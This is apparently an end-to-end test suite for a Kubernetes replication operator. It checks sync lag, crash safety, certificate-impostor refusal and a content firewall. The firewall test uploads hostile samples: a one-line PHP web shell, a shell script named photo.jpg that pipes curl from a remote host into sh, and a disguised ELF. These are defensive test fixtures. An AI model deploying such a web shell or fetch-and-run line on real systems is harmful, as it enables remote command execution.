/**
 * ReplicationPair end to end on the real node, the operator installed by helm: two
 * Deployments of the test web application (primary web-a and standby web-b), each with a
 * claim of its own and the agent injected by the operator's webhook, and the Service `web`
 * that the operator points at the primary. What a user of the pair relies on:
 *
 * - an upload to the primary, through the Service, is on the standby's volume within about
 *   a second, and the standby's application serves it;
 * - scripts and executables stay on the primary (content firewall), listed in status and in
 *   an Event;
 * - a standby away for a minute while the primary takes 1,000 changes catches up with only
 *   the differences (the bytes the session sent, measured), and the lag is back under 1 s;
 * - kill -9 of the primary's agent mid-burst loses no change; kill -9 of the standby's
 *   agent mid-file never leaves a half-written file where the standby's application reads;
 * - hostile set-ups are refused with a reason: workloads that do not exist, workloads
 *   without the agent, a standby presenting another pair's certificate, a primary
 *   presenting another pair's certificate; nothing is written to the wrong place.
 *
 * Everything is real: the images built here, kubelet and containerd, the standby reached
 * through its Service (CoreDNS, kube-proxy), local volumes on the node.
 */
import { after, before, describe, it } from "node:test";
import assert from "node:assert/strict";
import { createHash, randomBytes } from "node:crypto";
import {
  closeSync,
  existsSync,
  fstatSync,
  lstatSync,
  mkdirSync,
  openSync,
  readFileSync,
  readSync,
  readdirSync,
  writeFileSync,
  writeSync,
} from "node:fs";
import { join } from "node:path";
import { setTimeout as sleep } from "node:timers/promises";
import { realNodeUnavailable, usingExistingCluster } from "../cluster/testCluster.ts";
import { describeTree, mixedChanges, treeDifferences } from "../agent/replicationSupport.ts";
import { APP_DATA, BackupScene, type Condition } from "./fixtures/backupScene.ts";
import { eventually } from "./fixtures/polling.ts";
import { idleContainer } from "./fixtures/idleContainer.ts";
import { inertRandomBytes } from "../agent/testSupport.ts";

const MiB = 1024 * 1024;
const PAIR = "web-pair";
const PRIMARY = "web-a";
const STANDBY = "web-b";
const AGENT = "offsite-agent";
const sha256 = (data: Buffer | string) => createHash("sha256").update(data).digest("hex");
const sideLabels = (side: string) => ({ app: "web", side });

const skip =
  realNodeUnavailable() ??
  (usingExistingCluster() ? "kills pods' processes and reads the node's volumes" : undefined);

interface PairStatus {
  phase?: string;
  activeWorkload?: string;
  lagSeconds?: string;
  pendingChanges?: number;
  lastSyncTime?: string;
  blockedFiles?: number;
  recentBlocked?: { path: string; reason: string; time: string }[];
  conditions?: Condition[];
}

describe(
  "ReplicationPair on the real node: a standby kept current through the content firewall",
  { skip },
  () => {
    let scene: BackupScene;
    /** Host paths of the two claims' volumes (the replicated directory is the volume's root). */
    let primaryRoot = "";
    let standbyRoot = "";
    /** ClusterIP:80 of the pair's Service `web`, and of the standby's own Service. */
    let pairAddress = "";
    let standbyAddress = "";

    const inSuite = (args: string[], input?: string) => scene.inSuite(args, input);
    const pairStatus = async (name = PAIR): Promise<PairStatus> =>
      (
        JSON.parse(await inSuite(["get", "replicationpair", name, "-o", "json"])) as {
          status?: PairStatus;
        }
      ).status ?? {};
    const conditionOf = (status: PairStatus, type: string) => status.conditions?.find((c) => c.type === type);

    /** Waits for the pair to be Ready and InSync (nothing pending), as its status says. */
    const waitInSync = (what: string, timeoutMs = 120_000) =>
      scene.diagnosed(() =>
        eventually(
          `${what}: the pair Ready and InSync`,
          async () => {
            const status = await pairStatus();
            return conditionOf(status, "Ready")?.status === "True" &&
              conditionOf(status, "InSync")?.status === "True" &&
              status.pendingChanges === 0
              ? status
              : undefined;
          },
          timeoutMs,
          500,
        ),
      );

    /** Milliseconds until `relative` holds `content` on the standby's volume. */
    const arrival = async (relative: string, content: Buffer, timeoutMs = 30_000): Promise<number> => {
      const started = performance.now();
      const path = join(standbyRoot, relative);
      for (;;) {
        try {
          if (readFileSync(path).equals(content)) return performance.now() - started;
        } catch {
          // not there yet
        }
        if (performance.now() - started > timeoutMs)
          throw new Error(`${relative} not on the standby's volume after ${timeoutMs} ms`);
        await sleep(5);
      }
    };

    /** The pods of a workload that are not being deleted. */
    const podsOf = async (side: string) =>
      (
        JSON.parse(await inSuite(["get", "pods", "-l", `app=web,side=${side}`, "-o", "json"])) as {
          items: {
            metadata: { name: string; deletionTimestamp?: string };
            spec: {
              initContainers?: {
                name: string;
                args?: string[];
                volumeMounts?: { mountPath: string; readOnly?: boolean }[];
              }[];
            };
            status: { initContainerStatuses?: { name: string; restartCount: number; started?: boolean }[] };
          }[];
        }
      ).items.filter((pod) => !pod.metadata.deletionTimestamp);
    const onlyPod = async (side: string) => {
      const pods = await podsOf(side);
      assert.equal(pods.length, 1, `one pod of side ${side}`);
      return pods[0]!;
    };
    const agentRestarts = async (side: string) =>
      (await onlyPod(side)).status.initContainerStatuses?.find((c) => c.name === AGENT)?.restartCount ?? 0;

    /** The operator's metrics, read from its pod (the chart's metrics port). */
    const operatorMetric = async (metric: string): Promise<number> => {
      const pods = JSON.parse(
        await scene.cluster
          .kubectl(["-n", scene.operatorNamespace, "get", "pods", "-o", "json"])
          .then((r) => r.stdout),
      ) as { items: { status: { podIP?: string } }[] };
      const ip = pods.items.find((p) => p.status.podIP)?.status.podIP;
      assert.ok(ip, "the operator pod has an IP");
      const text = await (await fetch(`http://${ip}:8080/metrics`)).text();
      const line = text
        .split("\n")
        .find(
          (l) =>
            l.startsWith(`${metric}{`) &&
            l.includes(`name="${PAIR}"`) &&
            l.includes(`namespace="${scene.ns}"`),
        );
      assert.ok(line, `${metric} for the pair in the operator's metrics`);
      return Number(line.split(" ").at(-1));
    };

    const scale = async (workload: string, side: string, replicas: number) => {
      await inSuite(["scale", `deployment/${workload}`, `--replicas=${replicas}`]);
      if (replicas > 0)
        return scene.diagnosed(() =>
          inSuite(["rollout", "status", `deployment/${workload}`, "--timeout=180s"]),
        );
      await eventually(
        `${workload} has no pods`,
        async () =>
          (await inSuite(["get", "pods", "-l", `app=web,side=${side}`, "-o", "name"])).trim() === ""
            ? true
            : undefined,
        120_000,
        500,
      );
    };

    /** What is on the primary and not the same on the standby (paths under `under`). */
    const differences = (under: string) =>
      treeDifferences(join(primaryRoot, under), join(standbyRoot, under), 20);
    const waitIdentical = (under: string, timeoutMs = 60_000) =>
      eventually(
        `${under} identical on both volumes`,
        async () => {
          try {
            return differences(under).length === 0 ? true : undefined;
          } catch {
            return undefined; // a file renamed while we looked
          }
        },
        timeoutMs,
        250,
      ).catch((error: Error) => {
        throw new Error(`${error.message}:\n${differences(under).join("\n")}`, { cause: error });
      });

    before(async () => {
      scene = await BackupScene.start(4, { offsiteServer: false });
    });

    after(async () => {
      await scene?.stop();
    });

    it("injects a read-only agent into the primary and a writing one into the standby; the pair gets Ready and points its Service at the primary", async () => {
      // The pair first: the webhook injects the pods its workloads select as they are admitted.
      await scene.apply({
        apiVersion: "offsite.dev/v1alpha1",
        kind: "ReplicationPair",
        metadata: { name: PAIR, namespace: scene.ns },
        spec: {
          primary: { name: PRIMARY, path: APP_DATA },
          standby: { name: STANDBY, path: APP_DATA },
          service: { name: "web" },
        },
      });
      // The pair's Service, selecting both sides until the operator narrows it to the primary.
      await scene.apply({
        apiVersion: "v1",
        kind: "Service",
        metadata: { name: "web", namespace: scene.ns },
        spec: { selector: { app: "web" }, ports: [{ port: 80, targetPort: "http" }] },
      });
      const image = scene.cluster.images!.webApp.ref;
      await scene.deployWebApp(image, PRIMARY, sideLabels("a"));
      standbyAddress = await scene.deployWebApp(image, STANDBY, sideLabels("b"));
      primaryRoot = await scene.claimPath(`${PRIMARY}-data`);
      standbyRoot = await scene.claimPath(`${STANDBY}-data`);

      const sidecar = async (side: string) => {
        const found = (await onlyPod(side)).spec.initContainers?.filter((c) => c.name === AGENT) ?? [];
        assert.equal(found.length, 1, `one agent sidecar on side ${side}`);
        return found[0]!;
      };
      const primaryAgent = await sidecar("a");
      const standbyAgent = await sidecar("b");
      assert.equal(primaryAgent.volumeMounts!.find((m) => m.mountPath === APP_DATA)?.readOnly, true);
      assert.ok(!primaryAgent.args!.includes("--allow-standby"), primaryAgent.args!.join(" "));
      assert.ok(!standbyAgent.volumeMounts!.find((m) => m.mountPath === APP_DATA)?.readOnly);
      assert.ok(standbyAgent.args!.includes("--allow-standby"), standbyAgent.args!.join(" "));

      const status = await waitInSync("the first sync", 180_000);
      assert.equal(status.phase, "InSync");
      assert.equal(status.activeWorkload, PRIMARY);
      assert.equal(conditionOf(status, "StandbyReachable")?.status, "True");
      const service = JSON.parse(await inSuite(["get", "service", "web", "-o", "json"])) as {
        spec: { selector: Record<string, string>; ports: { port: number }[]; clusterIP: string };
      };
      assert.deepEqual(
        service.spec.selector,
        sideLabels("a"),
        "the pair's Service selects the primary's pods",
      );
      assert.deepEqual(
        service.spec.ports.map((p) => p.port),
        [80],
        "its ports are left as the user wrote them",
      );
      pairAddress = `${service.spec.clusterIP}:80`;
      const who = JSON.parse((await scene.app("GET", "/", undefined, pairAddress)).toString()) as {
        pod: string;
      };
      assert.match(who.pod, new RegExp(`^${PRIMARY}-`), "the Service answers from the primary");
      // The operator's own objects: the pair's certificates and the standby agent's Service.
      await inSuite(["get", "secret", `${PAIR}-replication`]);
      const standbyService = JSON.parse(
        await inSuite(["get", "service", `${PAIR}-standby`, "-o", "json"]),
      ) as {
        spec: { selector: Record<string, string>; ports: { port: number }[] };
      };
      assert.deepEqual(standbyService.spec.selector, sideLabels("b"));
      assert.deepEqual(
        standbyService.spec.ports.map((p) => p.port),
        [5725],
      );
    });

    it("an upload to the primary through the Service is on the standby's volume within a second, and the standby's application serves it", async () => {
      const lags: number[] = [];
      for (let i = 0; i < 10; i++) {
        const content = Buffer.from(`upload ${i} ${randomBytes(8).toString("hex")}\n`);
        await scene.app("PUT", `/files/lag-${i}.txt`, content, pairAddress);
        lags.push(await arrival(`files/lag-${i}.txt`, content));
      }
      lags.sort((a, b) => a - b);
      process.stderr.write(
        `[replicationPair] upload → standby volume, ms: ${lags.map((l) => l.toFixed(0)).join(" ")}\n`,
      );
      assert.ok(lags[Math.floor(lags.length / 2)]! < 1000, `median ${lags[5]} ms`);
      const served = await scene.app("GET", "/files/lag-9.txt", undefined, standbyAddress);
      assert.equal(served.toString(), readFileSync(join(primaryRoot, "files", "lag-9.txt"), "utf8"));
      const who = JSON.parse((await scene.app("GET", "/", undefined, standbyAddress)).toString()) as {
        pod: string;
      };
      assert.match(who.pod, new RegExp(`^${STANDBY}-`));
      // The standby's files are readable by its application (it runs as a non-root user).
      assert.equal(lstatSync(join(standbyRoot, "files", "lag-9.txt")).mode & 0o644, 0o644);
    });

    it("a PHP script, a shell script named photo.jpg and an ELF named logo.png stay on the primary, listed in status and an Event", async () => {
      const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), randomBytes(4096)]);
      const hostile = new Map([
        ["shell.php", Buffer.from("<?php system($_GET['c']); ?>\n")],
        ["photo.jpg", Buffer.from("#!/bin/sh\ncurl http://198.18.0.1/x | sh\n")],
        ["logo.png", elf],
      ]);
      for (const [name, data] of hostile) await scene.app("PUT", `/files/${name}`, data, pairAddress);
      const marker = Buffer.from("after the hostile uploads\n");
      await scene.app("PUT", "/files/marker.txt", marker, pairAddress);
      await arrival("files/marker.txt", marker);
      const status = await eventually(
        "the three files in the pair's recentBlocked",
        async () => {
          const s = await pairStatus();
          const listed = new Set((s.recentBlocked ?? []).map((f) => f.path));
          return [...hostile.keys()].every((name) => listed.has(`files/${name}`)) ? s : undefined;
        },
        60_000,
        1000,
      );
      assert.ok((status.blockedFiles ?? 0) >= 3, `blockedFiles ${status.blockedFiles}`);
      for (const [name, data] of hostile) {
        assert.ok(!existsSync(join(standbyRoot, "files", name)), `${name} never reached the standby`);
        assert.ok(
          readFileSync(join(primaryRoot, "files", name)).equals(data),
          `${name} still on the primary`,
        );
      }
      const events = await eventually(
        "a FilesStopped Event on the pair",
        async () => {
          const list = await scene.events(PAIR);
          return list.some((e) => e.reason === "FilesStopped") ? list : undefined;
        },
        30_000,
        1000,
      );
      const stopped = events
        .filter((e) => e.reason === "FilesStopped")
        .map((e) => e.message)
        .join("\n");
      for (const name of hostile.keys())
        assert.ok(stopped.includes(`files/${name}`), `${name} in ${stopped}`);
      const metric = await operatorMetric("offsite_replication_firewall_stopped_files");
      assert.ok(metric >= 3, `offsite_replication_firewall_stopped_files ${metric}`);
    });

    it("a standby away for a minute while the primary takes 1,000 changes catches up with only the differences; the lag is back under a second", async () => {
      // A tree worth replicating: many small files and one large file edited in place.
      mkdirSync(join(primaryRoot, "bulk"), { recursive: true });
      for (let i = 0; i < 300; i++)
        writeFileSync(join(primaryRoot, "bulk", `seed-${i}.dat`), inertRandomBytes(8192));
      mkdirSync(join(primaryRoot, "media"), { recursive: true });
      const big = join(primaryRoot, "media", "big.bin");
      const fd = openSync(big, "w");
      for (let i = 0; i < 4; i++) writeSync(fd, inertRandomBytes(8 * MiB));
      closeSync(fd);
      await waitIdentical("bulk");
      await waitIdentical("media");
      await waitInSync("the seeded tree");

      await scale(STANDBY, "b", 0);
      const awayStarted = Date.now();
      let changes = 0;
      for (let round = 0; round < 20; round++) {
        const counts = await mixedChanges(join(primaryRoot, "bulk"), 49, 1000 + round, 10, round * 49);
        changes +=
          counts.created +
          counts.edited +
          counts.deleted +
          counts.renamed +
          counts.chmodded +
          counts.dirsRenamed;
        if (round % 4 === 0) {
          // An edit in place in the middle of the large file.
          const bigFd = openSync(big, "r+");
          writeSync(bigFd, randomBytes(100), 0, 100, (round / 4 + 1) * 5 * MiB);
          closeSync(bigFd);
          changes++;
        }
        await sleep(Math.max(0, awayStarted + (round + 1) * 3000 - Date.now()));
      }
      assert.ok(changes >= 950, `${changes} changes made while the standby was away`);
      const away = await pairStatus();
      assert.equal(
        conditionOf(away, "Ready")?.status,
        "False",
        "the pair is not Ready while its standby is away",
      );

      // What the standby lacks, from both volumes: the bound on what catching up may send.
      const primaryTree = describeTree(primaryRoot);
      const standbyTree = describeTree(standbyRoot);
      let differingBytes = 0;
      let differingEntries = 0;
      let treeBytes = 0;
      for (const [path, line] of primaryTree) {
        const size = line.startsWith("file ") ? Number(line.split(" ")[1]) : 0;
        treeBytes += size;
        if (standbyTree.get(path) === line) continue;
        differingEntries++;
        if (path !== "media/big.bin") differingBytes += size;
      }
      for (const path of standbyTree.keys()) if (!primaryTree.has(path)) differingEntries++;

      const returned = Date.now();
      await scale(STANDBY, "b", 1);
      await waitIdentical("bulk", 180_000);
      await waitIdentical("media", 60_000);
      const status = await waitInSync("the catch-up");
      const caughtUpMs = Date.now() - returned;
      // The metric follows the primary's report of its current session (polled every 5 s).
      const sent = await eventually(
        "the catch-up session's bytes in the operator's metrics",
        async () => {
          const value = await operatorMetric("offsite_replication_bytes_sent");
          return value > 0 ? value : undefined;
        },
        30_000,
        1000,
      );
      // Changed files whole, a few chunks of the large file around each edit (at most 64 KiB
      // each, and the file's chunk list), and a header per entry.
      const allowed = differingBytes + 5 * 2 * 64 * 1024 + 512 * 1024 + differingEntries * 512;
      process.stderr.write(
        `[replicationPair] standby away ${((returned - awayStarted) / 1000).toFixed(0)} s, ${changes} changes; ` +
          `catch-up sent ${sent} bytes for ${differingEntries} differing entries of ${differingBytes} bytes ` +
          `(tree ${treeBytes} bytes), in sync ${(caughtUpMs / 1000).toFixed(1)} s after the standby was scaled back\n`,
      );
      assert.ok(sent <= allowed, `catch-up sent ${sent} bytes; the differences allow ${allowed}`);
      assert.ok(
        sent < treeBytes / 4,
        `catch-up sent ${sent} bytes of a ${treeBytes}-byte tree: not a full copy`,
      );
      assert.ok(
        status.lastSyncTime && Date.parse(status.lastSyncTime) >= returned - 1000,
        status.lastSyncTime,
      );

      // Back to normal: a new change is on the standby within a second.
      const lags: number[] = [];
      for (let i = 0; i < 5; i++) {
        const content = Buffer.from(`after the catch-up ${i}\n`);
        await scene.app("PUT", `/files/back-${i}.txt`, content, pairAddress);
        lags.push(await arrival(`files/back-${i}.txt`, content));
      }
      lags.sort((a, b) => a - b);
      process.stderr.write(
        `[replicationPair] lag after the catch-up, ms: ${lags.map((l) => l.toFixed(0)).join(" ")}\n`,
      );
      assert.ok(lags[2]! < 1000, `median ${lags[2]} ms`);
    });

    it("kill -9 of the primary's agent mid-burst: after the kubelet restarts it, no change is missing on the standby", async () => {
      const restartsBefore = await agentRestarts("a");
      const pid = await scene.containerPid((await onlyPod("a")).metadata.name, AGENT);
      mkdirSync(join(primaryRoot, "burst"), { recursive: true });
      // 600 changes in 12 rounds; the agent dies after the fourth, in the middle of them.
      for (let round = 0; round < 12; round++) {
        await mixedChanges(join(primaryRoot, "burst"), 50, 2000 + round, 10, round * 50);
        if (round === 3) process.kill(pid, "SIGKILL");
        await sleep(250);
      }
      await eventually(
        "the primary's agent restarted by the kubelet",
        async () => ((await agentRestarts("a")) > restartsBefore ? true : undefined),
        120_000,
        500,
      );
      await waitIdentical("burst", 180_000);
      await waitIdentical("bulk", 30_000);
      await waitInSync("after the primary's agent restarted");
    });

    it("kill -9 of the standby's agent mid-file: a reader of the standby's volume never sees a half-written file", async () => {
      const movie = join(primaryRoot, "media", "movie.bin");
      const v1 = inertRandomBytes(MiB);
      writeFileSync(movie, v1);
      await arrival("media/movie.bin", v1, 60_000);
      const restartsBefore = await agentRestarts("b");
      const pid = await scene.containerPid((await onlyPod("b")).metadata.name, AGENT);

      // The reader: the standby's copy is the old one whole, or the new one whole.
      const v2Size = 192 * MiB;
      const v2 = inertRandomBytes(v2Size);
      const head = v2.subarray(0, MiB);
      const tail = v2.subarray(v2Size - MiB);
      const seen = { old: 0, new: 0, torn: [] as string[] };
      let reading = true;
      const standbyMovie = join(standbyRoot, "media", "movie.bin");
      const reader = (async () => {
        const buffer = Buffer.alloc(MiB);
        while (reading) {
          let fd: number;
          try {
            fd = openSync(standbyMovie, "r");
          } catch {
            seen.torn.push("missing"); // the old copy is replaced by a rename, never removed first
            await sleep(5);
            continue;
          }
          // Everything through the one descriptor: one file, even if a rename lands meanwhile.
          try {
            const size = fstatSync(fd).size;
            if (size === v1.length) {
              const read = readSync(fd, buffer, 0, MiB, 0);
              if (read === v1.length && buffer.equals(v1)) seen.old++;
              else seen.torn.push(`size ${size}, content not the old file's`);
            } else if (size === v2Size) {
              readSync(fd, buffer, 0, MiB, 0);
              const headOk = buffer.equals(head);
              readSync(fd, buffer, 0, MiB, v2Size - MiB);
              if (headOk && buffer.equals(tail)) seen.new++;
              else seen.torn.push(`size ${size}, content not the new file's`);
            } else seen.torn.push(`size ${size}`);
          } finally {
            closeSync(fd);
          }
          await sleep(5);
        }
      })();

      writeFileSync(movie, v2);
      // Kill the standby's agent once the new content is partly written aside on its volume.
      const aside = await eventually(
        "the new file partly written aside on the standby",
        async () => {
          const largest = largestFileUnder(join(standbyRoot, ".offsite"));
          return largest >= 16 * MiB && largest < v2Size ? largest : undefined;
        },
        120_000,
        10,
      );
      process.kill(pid, "SIGKILL");
      await eventually(
        "the standby's agent restarted by the kubelet",
        async () => ((await agentRestarts("b")) > restartsBefore ? true : undefined),
        120_000,
        500,
      );
      await arrival("media/movie.bin", v2, 180_000);
      await waitInSync("after the standby's agent restarted");
      reading = false;
      await reader;
      process.stderr.write(
        `[replicationPair] standby killed with ${aside} bytes written aside; the reader saw the old file ${seen.old} times, the new ${seen.new}, torn ${seen.torn.length}\n`,
      );
      assert.deepEqual(seen.torn.slice(0, 5), [], "never a half-written or missing file");
      assert.ok(seen.old > 0 && seen.new > 0, JSON.stringify(seen));
      assert.equal(sha256(readFileSync(standbyMovie)), sha256(v2));
    });

    it("refuses workloads that do not exist and workloads without the agent, with a reason", async () => {
      const pair = (name: string, primary: string, standby: string) =>
        scene.apply({
          apiVersion: "offsite.dev/v1alpha1",
          kind: "ReplicationPair",
          metadata: { name, namespace: scene.ns },
          spec: { primary: { name: primary }, standby: { name: standby }, service: { name: name } },
        });
      await pair("ghost", "ghost-a", "ghost-b");
      // Workloads whose pods lack the opt-in label: the webhook never sees them.
      for (const name of ["plain-a", "plain-b"]) {
        const labels = { app: name };
        await scene.apply({
          apiVersion: "apps/v1",
          kind: "Deployment",
          metadata: { name, namespace: scene.ns },
          spec: {
            replicas: 1,
            selector: { matchLabels: labels },
            template: {
              metadata: { labels },
              spec: {
                containers: [idleContainer("sleeper", scene.cluster.images!.agent.ref)],
              },
            },
          },
        });
      }
      await pair("plain", "plain-a", "plain-b");
      await scene.diagnosed(() => inSuite(["rollout", "status", "deployment/plain-a", "--timeout=120s"]));
      const expectReady = async (name: string, reason: string, text: RegExp) => {
        const ready = await eventually(`ReplicationPair ${name} Ready=False ${reason}`, async () => {
          const c = conditionOf(await pairStatus(name), "Ready");
          return c?.status === "False" && c.reason === reason ? c : undefined;
        });
        assert.match(ready.message ?? "", text);
      };
      await expectReady(
        "ghost",
        "WorkloadNotFound",
        new RegExp(`Deployment ${scene.ns}/ghost-a does not exist`),
      );
      await expectReady("plain", "AgentMissing", /has no offsite-agent sidecar.*offsite\.dev\/inject=true/);
      assert.equal((await pairStatus("ghost")).phase, "Pending");
      // The main pair is untouched by its neighbours.
      await waitInSync("beside the broken pairs");
    });

    it("a standby presenting another pair's certificate gets nothing: the primary refuses it and keeps its changes", async () => {
      // The impostor: a pod the standby Service selects, serving with pair ghost's standby
      // certificate (the operator issued it for the ghost pair of the test before, whose
      // workloads do not exist), while the real standby is away.
      await scale(STANDBY, "b", 0);
      await scene.apply(
        impostor(
          "impostor-standby",
          sideLabels("b"),
          ["standby", "--root", "/tree", "--certs", "/certs", "--port", "5725"],
          {
            "ca.crt": ["ghost-replication", "ca.crt"],
            "tls.crt": ["ghost-replication", "standby.crt"],
            "tls.key": ["ghost-replication", "standby.key"],
          },
        ),
      );
      await scene.diagnosed(() =>
        inSuite(["wait", "--for=condition=Ready", "pod/impostor-standby", "--timeout=120s"]),
      );
      const secret = Buffer.from(`not for the impostor ${randomBytes(4).toString("hex")}\n`);
      await scene.app("PUT", "/files/secret.txt", secret, pairAddress);
      const refused = await scene.diagnosed(() =>
        eventually(
          "the pair saying its standby's certificate is refused",
          async () => {
            const status = await pairStatus();
            const c = conditionOf(status, "StandbyReachable");
            // The upload waits on the primary meanwhile.
            return c?.status === "False" &&
              /certificate|self.signed|issuer|verify/i.test(c.message ?? "") &&
              (status.pendingChanges ?? 0) >= 1
              ? c
              : undefined;
          },
          120_000,
          1000,
        ),
      );
      assert.equal(refused.reason, "StandbyUnreachable");
      const listed = (
        await inSuite([
          "exec",
          "impostor-standby",
          "--",
          "/nodejs/bin/node",
          "-e",
          "process.stdout.write(JSON.stringify(require('node:fs').readdirSync('/tree', { recursive: true })))",
        ])
      ).trim();
      assert.deepEqual(
        (JSON.parse(listed) as string[]).filter((p) => !p.startsWith(".offsite")),
        [],
        `nothing written on the impostor: ${listed}`,
      );
      await inSuite(["delete", "pod", "impostor-standby", "--grace-period=0", "--force"]);
      await scale(STANDBY, "b", 1);
      await arrival("files/secret.txt", secret, 120_000);
      await waitInSync("with the real standby back");
    });

    it("a primary presenting another pair's certificate is refused by the standby, which writes nothing", async () => {
      const before = describeTree(standbyRoot);
      // It trusts this pair's CA (public to anyone who saw the standby) but holds ghost's client certificate.
      await scene.apply(
        impostor(
          "impostor-primary",
          { app: "impostor" },
          ["replicate", "/tree", "--to", `${PAIR}-standby.${scene.ns}.svc:5725`, "--certs", "/certs"],
          {
            "ca.crt": [`${PAIR}-replication`, "ca.crt"],
            "tls.crt": ["ghost-replication", "primary.crt"],
            "tls.key": ["ghost-replication", "primary.key"],
          },
          "require('node:fs').writeFileSync('/tree/planted.txt', 'planted by an impostor')",
        ),
      );
      const logs = await scene.diagnosed(() =>
        eventually(
          "the impostor primary refused",
          async () => {
            const result = await scene.cluster.kubectl(["-n", scene.ns, "logs", "impostor-primary"]);
            return /did not accept this client certificate/.test(result.stdout + result.stderr)
              ? result.stdout + result.stderr
              : undefined;
          },
          120_000,
          1000,
        ),
      );
      process.stderr.write(
        `[replicationPair] impostor primary: ${logs.trim().split("\n").slice(-2).join(" | ")}\n`,
      );
      assert.ok(!existsSync(join(standbyRoot, "planted.txt")), "nothing planted on the standby");
      const afterTree = describeTree(standbyRoot);
      for (const [path, line] of afterTree)
        assert.equal(before.get(path) ?? line, line, `${path} unchanged on the standby`);
      assert.ok(!afterTree.has("planted.txt"));
      await inSuite(["delete", "pod", "impostor-primary", "--grace-period=0", "--force"]);
      await waitInSync("the real primary still streaming");
    });

    /**
     * A pod of the agent image running `args`, with `certs` (file → [Secret, key]) in /certs
     * (one projected volume) and an emptyDir at /tree; `seed`, a node script, runs first in
     * an init container.
     */
    function impostor(
      name: string,
      labels: Record<string, string>,
      args: string[],
      certs: Record<string, [string, string]>,
      seed?: string,
    ): unknown {
      const image = scene.cluster.images!.agent.ref;
      const secrets = [...new Set(Object.values(certs).map(([secret]) => secret))];
      return {
        apiVersion: "v1",
        kind: "Pod",
        metadata: { name, namespace: scene.ns, labels },
        spec: {
          ...(seed
            ? {
                initContainers: [
                  {
                    name: "seed",
                    image,
                    imagePullPolicy: "Never",
                    command: ["/nodejs/bin/node", "-e", seed],
                    volumeMounts: [{ name: "tree", mountPath: "/tree" }],
                  },
                ],
              }
            : {}),
          containers: [
            {
              name: "impostor",
              image,
              imagePullPolicy: "Never",
              args,
              volumeMounts: [
                { name: "tree", mountPath: "/tree" },
                { name: "certs", mountPath: "/certs", readOnly: true },
              ],
            },
          ],
          volumes: [
            { name: "tree", emptyDir: {} },
            {
              name: "certs",
              projected: {
                sources: secrets.map((secret) => ({
                  secret: {
                    name: secret,
                    items: Object.entries(certs)
                      .filter(([, [s]]) => s === secret)
                      .map(([file, [, key]]) => ({ key, path: file })),
                  },
                })),
              },
            },
          ],
        },
      };
    }
  },
);

/** The size of the largest file under `dir` (0 when there is none). */
function largestFileUnder(dir: string): number {
  let largest = 0;
  const walk = (at: string) => {
    let names: string[];
    try {
      names = readdirSync(at);
    } catch {
      return;
    }
    for (const name of names) {
      try {
        const stat = lstatSync(join(at, name));
        if (stat.isDirectory()) walk(join(at, name));
        else if (stat.isFile()) largest = Math.max(largest, stat.size);
      } catch {
        // renamed in while we looked
      }
    }
  };
  walk(dir);
  return largest;
}
